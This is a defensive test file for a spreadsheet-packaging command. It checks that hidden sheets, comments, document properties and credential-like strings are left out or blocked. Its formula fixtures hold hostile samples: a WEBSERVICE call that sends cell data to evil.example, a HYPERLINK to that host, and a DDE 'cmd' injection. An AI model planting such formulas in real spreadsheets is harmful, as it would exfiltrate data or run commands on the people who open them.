/**
 * What a crafted or careless workbook can carry to Spot through `msp-enroll package` (issue 16):
 * live formulas in contract cells (items 1), and hidden sheets, properties, comments and
 * credentials (item 2). Each workbook is generated here from the example with exceljs.
 */
import { existsSync, readFileSync } from 'node:fs';
import { unzipSync } from 'fflate';
import { packageCommand, type PackageFlags } from '../../src/cli/package-command';
import { verifyCommand } from '../../src/cli/verify-command';
import { inspectXlsx } from '../../src/core/package/contents';
import { EXAMPLE, cli, loadWithExcelJs, sheet, tempDir, type RunResult } from './helpers';

const tmp = tempDir();
afterAll(() => tmp.cleanup());

/** AWS's documented example keys (not real credentials). */
const KEY_ID = 'AKIAIOSFODNN7EXAMPLE';
const SECRET = 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY';

async function capture(run: (io: { stdout: (t: string) => void; stderr: (t: string) => void }) => Promise<number>) {
  let stdout = '';
  let stderr = '';
  const code = await run({ stdout: (t) => (stdout += t), stderr: (t) => (stderr += t) });
  return { code, stdout, stderr } satisfies RunResult;
}
const pack = (file: string, out: string, flags: PackageFlags = {}) =>
  capture((io) => packageCommand(file, out, false, io, flags));

/** The example with a very hidden sheet of AWS keys, a hidden sheet, a comment and properties. */
async function careless(name: string): Promise<string> {
  const wb = await loadWithExcelJs(EXAMPLE);
  wb.creator = 'Jane Admin';
  wb.company = 'Northwind';
  sheet(wb, 'Accounts').getCell('C3').note = 'check with finance';
  const keys = wb.addWorksheet('Keys', { state: 'veryHidden' });
  keys.getCell('A1').value = 'aws_secret_access_key';
  keys.getCell('B1').value = SECRET;
  keys.getCell('B2').value = KEY_ID;
  wb.addWorksheet('Notes', { state: 'hidden' }).getCell('A1').value = 'nothing secret';
  const path = tmp.path(name);
  await wb.xlsx.writeFile(path);
  return path;
}

describe('hidden data (item 2)', () => {
  it('ships the contract sheets only, values only, and lists what it left out', async () => {
    const file = await careless('careless.xlsx');
    const out = tmp.path('careless.zip');
    const r = await pack(file, out);
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
    expect(r.stdout).toContain(
      'workbook.xlsx ships the values of: "Enrollment", "Accounts", "Subset Workflows", "Billing Workflows", "End Customers"\n' +
        'Left out (--include SHEET to ship a sheet too):\n' +
        '  very hidden sheet "Keys": left out\n' +
        '  hidden sheet "Notes": left out\n' +
        '  document properties: left out (creator "Jane Admin", lastModifiedBy "Unknown", Company "Northwind")\n' +
        '  1 comment: left out (Accounts!C3)\n' +
        '  Keys!B1 holds what looks like an AWS secret access key: left out\n' +
        '  Keys!B2 holds what looks like an AWS access key ID: left out\n',
    );
    const shipped = unzipSync(readFileSync(out))['workbook.xlsx']!;
    const contents = inspectXlsx(shipped);
    expect(contents.sheets.map((s) => [s.name, s.state])).toEqual([
      ['Enrollment', 'visible'],
      ['Accounts', 'visible'],
      ['Subset Workflows', 'visible'],
      ['Billing Workflows', 'visible'],
      ['End Customers', 'visible'],
    ]);
    expect([contents.properties, contents.comments, contents.formulas, contents.otherParts]).toEqual([[], [], [], []]);
    expect(Buffer.from(shipped).includes(SECRET)).toBe(false);
    const v = await capture((io) => verifyCommand(out, false, io));
    expect(v.code).toBe(0);
  });

  it('--include ships a named sheet too, and a credential in it blocks packaging with the cell named', async () => {
    const file = await careless('include.xlsx');
    const out = tmp.path('include.zip');
    const notes = await pack(file, out, { include: ['notes'] });
    expect(notes.code).toBe(0);
    expect(
      inspectXlsx(unzipSync(readFileSync(out))['workbook.xlsx']!).sheets.map((s) => [s.name, s.state]),
    ).toContainEqual(['Notes', 'visible']);

    const blocked = tmp.path('blocked.zip');
    const r = await pack(file, blocked, { include: ['Keys'] });
    expect(r.code).toBe(1);
    expect(r.stdout).toContain(
      'Keys!B1 holds what looks like an AWS secret access key. Nothing was packaged: remove it from the workbook (and revoke the credential, since it was in a file), then package again.\n',
    );
    expect(r.stdout).toContain('Keys!B2 holds what looks like an AWS access key ID.');
    expect(r.stderr).toBe(`msp-enroll: ${file} holds text that looks like a credential, so nothing was packaged.\n`);
    expect(existsSync(blocked)).toBe(false);
  });

  it('a credential in a contract sheet blocks packaging, even in the user’s own column', async () => {
    const wb = await loadWithExcelJs(EXAMPLE);
    sheet(wb, 'Accounts').getCell('F2').value = `Authorization: Bearer ${'x1Y2'.repeat(8)}`;
    const file = tmp.path('bearer.xlsx');
    await wb.xlsx.writeFile(file);
    const r = await pack(file, tmp.path('bearer.zip'));
    expect(r.code).toBe(1);
    expect(r.stdout).toContain('Accounts!F2 holds what looks like a bearer token.');
  });

  it('--list says what would ship, writes nothing; an unknown --include is refused by name', async () => {
    const file = await careless('list.xlsx');
    const out = tmp.path('list.zip');
    const r = await pack(file, out, { list: true });
    expect(r.code).toBe(0);
    expect(r.stdout).toContain('very hidden sheet "Keys": left out');
    expect(existsSync(out)).toBe(false);
    const listBlocked = await pack(file, out, { list: true, include: ['Keys'] });
    expect(listBlocked.code).toBe(1);
    expect(listBlocked.stdout).toContain('  BLOCKS: Keys!B1 holds what looks like an AWS secret access key.');
    const unknown = await pack(file, out, { include: ['Secrets'] });
    expect(unknown.code).toBe(2);
    expect(unknown.stderr).toContain('has no sheet "Secrets" to include; its sheets are "Enrollment"');
  });

  it('the command line takes --include (repeatable) and --list', async () => {
    const file = await careless('argv.xlsx');
    const r = await cli('package', file, '--list', '--include', 'Notes', '--include=Keys');
    expect(r.code).toBe(1);
    expect(r.stdout).toContain(
      'workbook.xlsx ships the values of: "Enrollment", "Accounts", "Subset Workflows", "Billing Workflows", "End Customers", "Keys", "Notes"',
    );
  });
});

describe('live formulas (item 1)', () => {
  it('refuses HYPERLINK, WEBSERVICE and DDE formulas in contract cells, each at its cell; nothing written', async () => {
    const wb = await loadWithExcelJs(EXAMPLE);
    const enrollment = sheet(wb, 'Enrollment');
    const name = String(enrollment.getCell('B2').value);
    enrollment.getCell('B2').value = { formula: `HYPERLINK("http://evil.example/x","${name}")`, result: name };
    const subsets = sheet(wb, 'Subset Workflows');
    const subset = String(subsets.getCell('A2').value);
    subsets.getCell('A2').value = {
      formula: `IF(WEBSERVICE("https://evil.example/?"&A3)="","${subset}","${subset}")`,
      result: subset,
    };
    sheet(wb, 'Accounts').getCell('A2').value = { formula: "cmd|' /C calc'!A0", result: 0 };
    const file = tmp.path('formulas.xlsx');
    await wb.xlsx.writeFile(file);

    const v = await cli('validate', file, '--json');
    expect(v.code).toBe(1);
    const found = (
      JSON.parse(v.stdout) as { findings: { sheet: string; cell: string; code: string; severity: string }[] }
    ).findings
      .filter((f) => f.code.startsWith('formula'))
      .map((f) => `${f.sheet}!${f.cell} ${f.code} ${f.severity}`);
    expect(found).toEqual([
      'Enrollment!B2 formula-reaches-out error',
      'Accounts!A2 formula-reaches-out error',
      'Subset Workflows!A2 formula-reaches-out error',
    ]);
    const out = tmp.path('formulas.zip');
    const r = await pack(file, out);
    expect(r.code).toBe(1);
    expect(r.stdout).toContain('Enrollment!B2  error  "Value" holds a formula that is a hyperlink (HYPERLINK).');
    expect(existsSync(out)).toBe(false);
  });

  it('packages a harmless formula (a warning) as its value: no formula in workbook.xlsx', async () => {
    const wb = await loadWithExcelJs(EXAMPLE);
    const accounts = sheet(wb, 'Accounts');
    const id = String(accounts.getCell('C2').value);
    accounts.getCell('C2').value = { formula: `TEXT(${Number(id)},"000000000000")`, result: id };
    const file = tmp.path('harmless.xlsx');
    await wb.xlsx.writeFile(file);
    const out = tmp.path('harmless.zip');
    const r = await pack(file, out);
    expect(r.code).toBe(0);
    expect(r.stdout).toContain('Accounts!C2  warning  "AWS Account ID" is computed by the formula');
    expect(r.stdout).toContain('  1 formula: shipped as their values only\n');
    const shipped = unzipSync(readFileSync(out))['workbook.xlsx']!;
    expect(inspectXlsx(shipped).formulas).toEqual([]);
    expect((await capture((io) => verifyCommand(out, false, io))).code).toBe(0);
  });
});
